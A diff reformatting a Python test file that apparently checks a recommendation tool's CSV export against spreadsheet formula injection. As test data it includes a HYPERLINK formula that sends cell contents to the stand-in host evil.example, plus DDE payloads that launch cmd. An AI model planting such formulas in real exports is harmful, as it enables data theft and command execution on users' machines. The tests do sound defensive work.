@@ -19,8 +19,15 @@ from halqa.catalog.csvsafe import TRIGGERS, escape_cell, sql_safe, write_csv
 from halqa.ingest import ingest_files
 from tests.service.world import build_world
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\t=1+1", "\r=1+1", "\uff1d1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+]
 HARMLESS = ["ⵜⵉⵣⵉ ⵏ ⵓⵙⵙⴰⵏ", "الزين اللي فيك", "Les Chevaux de Dieu", 'say "hi"', "a=b", ""]
 
 
@@ -34,7 +41,9 @@ def _assert_safe(path: Path) -> None:
     for row in _cells(path):
         for cell in row:
             assert not cell.startswith(TRIGGERS) or _is_number(cell), (cell, path)
-    for record in text.split("\n"):  # every record's first field is quoted (no cell here holds a newline)
+    for record in text.split(
+        "\n"
+    ):  # every record's first field is quoted (no cell here holds a newline)
         assert not record or record.startswith('"'), record
 
 
@@ -53,7 +62,9 @@ def test_escape_cell_follows_owasp() -> None:
 
 
 def test_write_csv_quotes_everything_and_keeps_numbers(tmp_path: Path) -> None:
-    frame = pd.DataFrame({"name": HOSTILE + HARMLESS, "score": [-0.5] * 13, "rank": list(range(13))})
+    frame = pd.DataFrame(
+        {"name": HOSTILE + HARMLESS, "score": [-0.5] * 13, "rank": list(range(13))}
+    )
     path = write_csv(frame, tmp_path / "out.csv")
     _assert_safe(path)
     back = pd.read_csv(path, keep_default_na=False)
@@ -73,8 +84,13 @@ def test_sql_safe_escapes_inside_duckdb_copy(tmp_path: Path) -> None:
 
 def test_audience_files_are_safe(tmp_path: Path) -> None:
     """`halqa target --out`, `halqa lookalike --out` and `halqa audience-export --out` all write through it."""
-    audience = pd.DataFrame({"member_id": ["=cmd|' /C calc'!A0", "m001"], "score": [0.9, -0.1],
-                             "reasons": ["@follows x", "watches drama"]})
+    audience = pd.DataFrame(
+        {
+            "member_id": ["=cmd|' /C calc'!A0", "m001"],
+            "score": [0.9, -0.1],
+            "reasons": ["@follows x", "watches drama"],
+        }
+    )
     _assert_safe(write_table(audience, tmp_path / "audience.csv"))
 
 
@@ -84,8 +100,10 @@ def test_an_audience_file_halqa_wrote_reads_back_with_its_ids(tmp_path: Path) ->
     from halqa.audience.export import read_member_list
 
     ids = [HOSTILE[0], HOSTILE[1], "m001", "'quoted-id", "ⵎ-2"]
-    written = write_table(pd.DataFrame({"member_id": ids, "score": [0.9, 0.8, 0.7, 0.6, 0.5]}),
-                          tmp_path / "audience.csv")
+    written = write_table(
+        pd.DataFrame({"member_id": ids, "score": [0.9, 0.8, 0.7, 0.6, 0.5]}),
+        tmp_path / "audience.csv",
+    )
     _assert_safe(written)
     assert list(read_member_list(written)["member_id"]) == ids
 
@@ -103,23 +121,37 @@ def _world(tmp_path: Path) -> Path:
 def test_quarantine_file_is_safe(tmp_path: Path) -> None:
     db = _world(tmp_path)
     events = tmp_path / "plays.csv"
-    events.write_text("member_id,title_id,event_type,ts\n"
-                      f'"{HOSTILE[0].replace(chr(34), chr(34) * 2)}",{HOSTILE[3]},play,2026-10-01T10:00:00\n'
-                      f"m001,{HOSTILE[3]},play,2026-10-01T10:00:00\n", encoding="utf-8")
+    events.write_text(
+        "member_id,title_id,event_type,ts\n"
+        f'"{HOSTILE[0].replace(chr(34), chr(34) * 2)}",{HOSTILE[3]},play,2026-10-01T10:00:00\n'
+        f"m001,{HOSTILE[3]},play,2026-10-01T10:00:00\n",
+        encoding="utf-8",
+    )
     with Store.open(db) as store:
         report = ingest_files(store, "events", [events], quarantine_dir=tmp_path / "q")
     written = list((tmp_path / "q").glob("*.csv"))
     assert report.files[0].rejected == 1 and len(written) == 1
     _assert_safe(written[0])
-    assert HOSTILE[0] in "".join(cell for row in _cells(written[0]) for cell in row)  # kept, as text
+    assert HOSTILE[0] in "".join(
+        cell for row in _cells(written[0]) for cell in row
+    )  # kept, as text
 
 
 def test_recommend_all_out_is_safe(tmp_path: Path) -> None:
     db = _world(tmp_path)
     env = {**os.environ, "COLUMNS": "200"}
-    for args in (["train", "--model", "popular"], ["recommend", "--all", "-k", "30", "--out", str(tmp_path / "r.csv")]):
-        run = subprocess.run([sys.executable, "-m", "halqa.cli.main", *args, "--db", str(db), "--json"],
-                             check=False, capture_output=True, text=True, timeout=300, env=env)
+    for args in (
+        ["train", "--model", "popular"],
+        ["recommend", "--all", "-k", "30", "--out", str(tmp_path / "r.csv")],
+    ):
+        run = subprocess.run(
+            [sys.executable, "-m", "halqa.cli.main", *args, "--db", str(db), "--json"],
+            check=False,
+            capture_output=True,
+            text=True,
+            timeout=300,
+            env=env,
+        )
         assert run.returncode == 0, run.stderr
     assert json.loads(run.stdout)["rows"] > 0
     _assert_safe(tmp_path / "r.csv")
